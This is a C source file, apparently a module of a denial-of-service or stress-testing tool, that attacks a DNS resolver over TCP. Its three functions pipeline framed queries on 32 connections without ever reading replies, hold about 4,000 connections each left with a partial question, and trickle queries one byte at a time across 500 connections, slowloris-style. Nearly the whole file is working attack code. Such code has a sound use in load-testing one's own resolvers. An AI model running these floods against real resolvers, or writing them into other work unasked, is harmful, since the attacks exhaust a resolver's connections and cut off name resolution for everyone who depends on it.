/* DNS over TCP, by clients that do not behave: they never read, never finish, or are too many. */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

static int dial(void) {
  struct place to = resolver();
  int tcp = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (tcp < 0) fail("a TCP socket");
  if (connect(tcp, (struct sockaddr *)&to.address, to.length) && errno != EINPROGRESS) fail("the resolver");
  return tcp;
}

/* A question with its length before it (RFC 1035, 4.2.2); returns how many bytes. */
static size_t frame_question(uint8_t *frame, const char *name) {
  size_t length = write_question(frame + 2, name);
  frame[0] = length >> 8;
  frame[1] = length;
  return length + 2;
}

/* True for a connection that takes no more: its other end has closed it. */
static bool is_dead(ssize_t sent) { return sent < 0 && errno != EAGAIN && errno != ENOTCONN && errno != EINTR; }

/* Questions as fast as they are taken, some known, some not, and never a look at the answers. */
unsigned long pipeline_questions(char **arguments) {
  enum { OPEN = 32, SIZE = 32768 };
  static uint8_t questions[SIZE];
  size_t length = 0;
  for (unsigned turn = 0; length + 300 < SIZE; turn++) {
    char invented[16];
    invent_name(invented);
    length += frame_question(questions + length, turn % 8 ? arguments[0] : invented);
  }
  struct pollfd open[OPEN];
  size_t at[OPEN] = {0};
  for (int i = 0; i < OPEN; i++) open[i] = (struct pollfd){dial(), POLLOUT, 0};
  unsigned long struck = 0;
  while (attacking()) {
    poll(open, OPEN, 1000);
    for (int i = 0; i < OPEN; i++) {
      if (!open[i].revents) continue;
      ssize_t sent = send(open[i].fd, questions + at[i], length - at[i], 0);
      if (sent > 0) at[i] = (at[i] + sent) % length, struck++;
      if (!is_dead(sent)) continue;
      close(open[i].fd);
      open[i].fd = dial();
      at[i] = 0;
    }
  }
  return struck;
}

/* Thousands at once, each with the beginning of a question, then all of them anew. */
unsigned long hold_connections(char **arguments) {
  (void)arguments;
  enum { OPEN = 4000 };
  static int open[OPEN];
  unsigned long struck = 0;
  memset(open, -1, sizeof open);
  while (attacking()) {
    for (int i = 0; i < OPEN && attacking(); i++) {
      if (open[i] >= 0) close(open[i]);
      open[i] = dial();
      struck++;
    }
    /* A listener's queue is short: who found it full comes again after a second. */
    usleep(1500000);
    for (int i = 0; i < OPEN && attacking(); i++) send(open[i], "\0\x20", 2, 0);
    usleep(1500000);
  }
  return struck;
}

/* A byte at a time on many connections, which all are kept. */
unsigned long trickle_questions(char **arguments) {
  enum { OPEN = 500 };
  static int open[OPEN];
  uint8_t frame[300];
  size_t length = frame_question(frame, arguments[0]);
  unsigned long struck = 0;
  for (int i = 0; i < OPEN; i++) open[i] = dial();
  for (size_t at = 0; attacking(); at = (at + 1) % length) {
    for (int i = 0; i < OPEN && attacking(); i++) {
      ssize_t sent = send(open[i], frame + at, 1, 0);
      struck += sent > 0;
      if (!is_dead(sent)) continue;
      close(open[i]);
      open[i] = dial();
    }
    usleep(1000);
  }
  return struck;
}
